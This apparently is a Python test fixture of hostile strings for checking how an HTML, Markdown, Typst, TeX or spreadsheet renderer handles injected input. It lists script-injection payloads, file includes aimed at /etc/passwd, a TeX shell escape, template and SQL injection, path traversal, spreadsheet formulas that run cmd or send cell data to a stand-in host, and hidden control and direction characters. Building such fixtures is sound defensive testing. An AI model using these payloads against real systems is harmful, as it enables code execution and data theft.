r"""Texts that a page would carry to make a program do what its reader did not ask for, each by the name of its trick.

Each script would set `canary` or ask for a page of `canary.invalid`; each include would show a file of this machine.
"""

from __future__ import annotations

import random
from functools import cache

WEB = "https://canary.invalid"
SECRET = "root:x:0:0"
"""How the file begins that the includes ask for."""

_FILE = "/etc/passwd"

HTML = {
    "script": "<script>window.canary=1;alert(1)</script>",
    "script from the web": f'<script src="{WEB}/a.js"></script>',
    "closes what is open": "\"'></td></table></title></style></textarea>--><script>canary=1</script>",
    "picture with a handler": "<img src=x onerror=\"window.canary=1;alert(1)\">",
    "picture from the web": f'<img src="{WEB}/a.png">',
    "handlers without quotes": "<body onload=canary=1><details open ontoggle=canary=1>",
    "attribute": "\" onmouseover=\"canary=1\" autofocus onfocus=\"canary=1\" x=\"",
    "attribute in single quotes": "' onfocus='canary=1' autofocus x='",
    "vector drawing": f'<svg onload="canary=1"><script>canary=1</script><image href="{WEB}/a.svg"/></svg>',
    "frame": f'<iframe src="{WEB}/f"></iframe><object data="{WEB}/o"></object><embed src="{WEB}/e">',
    "frame with a document": "<iframe srcdoc=\"<script>parent.canary=1</script>\"></iframe>",
    "page that moves on": f'<meta http-equiv="refresh" content="0;url={WEB}/m"><base href="{WEB}/">',
    "style": f"<style>@import '{WEB}/s.css';*{{background:url({WEB}/b)}}</style><link rel=stylesheet href={WEB}/l>",
    "form": f'<form action="{WEB}/f"><button autofocus>go</button></form>',
    "entities": "&lt;script&gt;canary=1&lt;/script&gt;&#60;script&#62;&#x6a;avascript:canary=1",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary=1&gt;\">",
    "comment": "<!--><script>canary=1</script>--> <![CDATA[ x ]]> <?php echo 1 ?>",
}  # fmt: skip
LINKS = {
    "script link": "javascript:canary=1",
    "script link in capitals": " JaVaScRiPt:canary=1//https://a.example",
    "script link with a tab": "java\tscript:canary=1",
    "page as data": "data:text/html,<script>canary=1</script>",
    "file": f"file://{_FILE}",
    "script after a web address": f'{WEB}/"onclick="canary=1',
    "address that ends early": f"{WEB}/a) <script>canary=1</script> [b]({WEB}/b",
    "address of another": f"https://known.example@canary.invalid/{'a' * 40}",
}
MARKUP = {
    "markdown link": f"[canary]({WEB}/l) ![canary]({WEB}/p.png) <{WEB}/a> [b]: {WEB}/b",
    "markdown script link": "[canary](javascript:canary=1) [canary](data:text/html,x)",
    "markdown emphasis": "**canary** _canary_ ~~canary~~ `canary` ***",
    "markdown heading": "# canary\n\n## canary\n===\n\n---\n\n> canary\n\n- canary\n1) canary",
    "markdown fence": "```\ncanary\n```\n~~~ {=html}\n<script>canary=1</script>\n~~~",
    "markdown table": "| a | b |\n|---|---|\n| canary | [c](javascript:canary=1) |",
    "markdown note": "[^1] ^[canary] [^canary]: canary",
    "raw block": "```{=html}\n<script>canary=1</script>\n```\n\n`<b>canary</b>`{=html} `#read(1)`{=typst}",
    "pandoc attributes": '[canary]{onclick="canary=1"} ::: {#canary .x}\ncanary\n:::',
    "pandoc metadata": f"---\ntitle: canary\ncss: {WEB}/a.css\ninclude-before: {_FILE}\n---",
    "tex include": rf"\input{{{_FILE}}} \include{{{_FILE}}} \lstinputlisting{{{_FILE}}} \immediate\write18{{id}}",
    "tex formula": r"$\def\canary{\canary}\canary$ $$\frac{canary}{1}$$ \(x\) \[y\] \begin{align}z\end{align}",
    "dollars": "from $5 to $7_a^b, 5$ a $, \\$, $$",
    "typst read": f'#read("{_FILE}") #include "{_FILE}" #image("{_FILE}") #json("/briefing.json")',
    "typst read from below": f'#read("../../../../../..{_FILE}") #read("briefing.json")',
    "typst import": '#import "@preview/canary:0.1.0": * #import "/briefing.typ": *',
    "typst evaluation": '#eval("1+1") #panic("canary") #let x = 1 #(x) #{1} #sys.inputs #plugin("a.wasm")',
    "typst link": f'#link("javascript:canary=1")[canary] #link("{WEB}/t")[canary] <canary> @canary',
    "typst end of content": '] ) } " \\ #h(1pt) $ #read(1) $ /* canary */ // canary',
    "typst signs": "= canary\n== canary\n/ canary: canary\n+ canary\n~ -- --- ... 'a' \"b\" \\u{1F600}",
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{% endfor %}{# canary #}",
    "python format": "{0} {state} {state.__class__} {x!r:>1000000} %s %(canary)s %n ${canary} {{}} {",
    "gettext": 'msgid "canary"\\nmsgstr ""',
    "figure formula": r"$\mathrm{canary}$ $\frac{1}$ \usepackage{canary}",
    "rich markup": "[red]canary[/red] [link=javascript:canary=1]canary[/link] [/] [bold",
    "shell": "$(touch canary) `touch canary` ; touch canary | touch canary && touch canary\nnewline",
    "sql": "'; DROP TABLE events; COPY (SELECT 1) TO 'canary'; --",
    "path": "../../../../canary",
    "json": '"},{"canary":[1,2],"a":"\\u0022\\',
}
SHEET = {
    "formula": "=1+1",
    "formula that runs a program": "=cmd|' /C calc'!A0",
    "formula that sends": f'=HYPERLINK("{WEB}/?"&A1,"canary")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line end": "\n=1+1",
    "formula after blanks": "   =1+1",
    "formula of full width": "\uff1d1+1",
    "formula in another cell": "canary;=cmd|' /C calc'!A0;",
    "formula in another row": "canary\n=cmd|' /C calc'!A0",
    "quotes that part a cell": '"canary","=1+1"',
}
HIDDEN = {
    "terminal colours": "\x1b[31mcanary\x1b[0m",
    "terminal cleared": "\x1b[2J\x1b[Hcanary",
    "terminal title": "\x1b]0;canary\x07",
    "terminal link": f"\x1b]8;;{WEB}\x1b\\canary\x1b]8;;\x1b\\",
    "terminal that answers": "\x1b[6n\x1b[c\x05canary",
    "terminal in eight bits": "\x9b31mcanary\x9d0;canary\x9c",
    "line written over": "canary\rerror: none\x08\x08\x08",
    "other controls": "a\x01b\x02c\x0bd\x0ce\x1df\x1eg\x1fh\x7fi\x85j",
    "right to left": "\u202egpj.canary\u202c \u2067canary\u2069",
    "marks of direction": "canary\u200f\u200e\u061c",
    "without width": "can\u200bary \u2060can\u200cary can\u200dary \ufeffcanary can\u00adary",
    "tags": "canary" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
    "separators": "a\u2028b\u2029c",
    "no characters": "a\ufffeb\uffffc\ufdd0d\ue000e\U0010fffff",
    "many marks": "c" + "\u0301\u0336\u0489" * 40 + "anary",
    "look-alikes": "\u0422\u043eg\u043e \u0391\u0392\u0395 \uff34\uff4f\uff47\uff4f \u1d413\u0261\u043e",
    "wide blanks": "\u3000canary\u00a0\u2003canary\u202f",
}
LONG = {
    "nearly too long": "canary " * 1_400,
    "long word": "canary" * 500,
}
TOO_LONG = "canary " * 150_000
"""Of more than a megabyte."""

NUL = "can\0ary"


@cache
def hostile_strings(seed: int = 20261128) -> dict[str, str]:
    """Every text that may stand in a field, by its trick, and some in which three stand together."""
    single = HTML | LINKS | MARKUP | SHEET | HIDDEN | LONG
    short = [text for text in single.values() if len(text) < 300]
    mixed = random.Random(seed)
    together = {f"three together, {number}": " ".join(mixed.sample(short, 3)) for number in range(12)}
    return single | together
